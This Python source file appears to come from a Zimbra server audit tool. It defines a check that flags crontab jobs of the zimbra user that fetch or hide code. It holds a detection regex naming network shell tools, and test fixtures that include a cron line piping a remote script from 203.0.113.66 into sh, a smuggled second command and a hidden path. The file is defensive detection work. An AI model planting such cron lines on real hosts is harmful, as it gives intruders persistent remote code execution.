"""The crontab of user zimbra holds no job that fetches or hides code."""

import re
from collections.abc import Iterator

from zmward.control import Control, Severity, fails, passes, unsure
from zmward.controls.shapes.basic import on_hosts
from zmward.deviation import Judgement, Layer, deviates, sound, unknown
from zmward.facts import Facts
from zmward.integrity.own_jobs import own_form
from zmward.sources.crontab import CRONTAB

_ODD = re.compile(
    r"\b(?:curl|wget|fetch|nc|ncat|socat|base64|xxd|mkfifo|bash\s+-i|telnet)\b"
    r"|/dev/(?:tcp|udp|shm)/|\bpython3?\s+-c|\bperl\s+-e|\bphp\s+-r|/tmp/\.|\beval\b"
)


def _look(facts: Facts, host: str) -> Iterator[Judgement]:
    found = facts.read(CRONTAB, host)
    odd = [job for job in found.jobs if _ODD.search(job)]
    inside = [job for job in found.inside if job not in odd and not own_form(job)]
    for job in odd:
        yield deviates(
            Layer.LASTING,
            host,
            job[:200],
            "Zimbra's own jobs, and none that fetches or hides code",
            no_cure="Find out who put it there before you remove it (`crontab -u "
            "zimbra -l`); an unknown one is a break-in until proved otherwise.",
            source="crontab-zimbra",
            seen=job[:200],
        )
    rest = [*inside, *(job for job in found.outside if job not in odd)]
    if rest:
        reason = f"{len(rest)} jobs are not Zimbra's own ({'; '.join(rest[:3])[:300]})"
        verb = "whether they are the site's is for `zmward integrity accept`"
        yield unknown(Layer.LASTING, host, f"{reason}: {verb}")
    elif not found.marked:
        reason = "the crontab has no block of Zimbra: its own jobs do not run"
        yield unknown(Layer.LASTING, host, reason)
    elif not odd:
        seen = f"{len(found.inside)} jobs, all inside Zimbra's block"
        yield sound(Layer.LASTING, host, source="crontab-zimbra", seen=seen)


_CRON = (
    "> /var/spool/cron/crontabs/zimbra\n # ZIMBRASTART -- DO NOT EDIT\n"
    " 40 2 * * * /opt/zimbra/libexec/zmcleantmp\n # ZIMBRAEND -- DO NOT EDIT\n"
)

CONTROL = Control(
    id="zimbra-crontab-without-foreign-jobs",
    title="The crontab of user zimbra holds no job that fetches or hides code",
    why="It is the usual way for an intruder to come back after a clean-up.",
    impact="A job of the site's own may have to be written another way.",
    severity=Severity.HIGH,
    tips=("T36",),
    check=on_hosts(Layer.LASTING, (CRONTAB,), _look),
    refs=(),
    note="Jobs of the site's own belong outside of Zimbra's block: upgrades keep them.",
    examples=(
        passes(raw={"crontab-zimbra": _CRON}),
        fails(
            raw={
                "crontab-zimbra": f"{_CRON} */15 * * * * curl -fsSL "
                "http://203.0.113.66/u.sh | sh\n"
            }
        ),
        unsure(
            raw={
                "crontab-zimbra": _CRON.replace(
                    "zmcleantmp", "zmcleantmp; /opt/zimbra/data/tmp/x"
                )
            }
        ),
        unsure(
            raw={"crontab-zimbra": _CRON.replace("libexec/zmcleantmp", "log/.cache/x")}
        ),
        unsure(
            raw={"crontab-zimbra": f"{_CRON} 0 4 * * * /usr/local/bin/backup-mail\n"}
        ),
        unsure(missing=("crontab-zimbra",)),
    ),
)
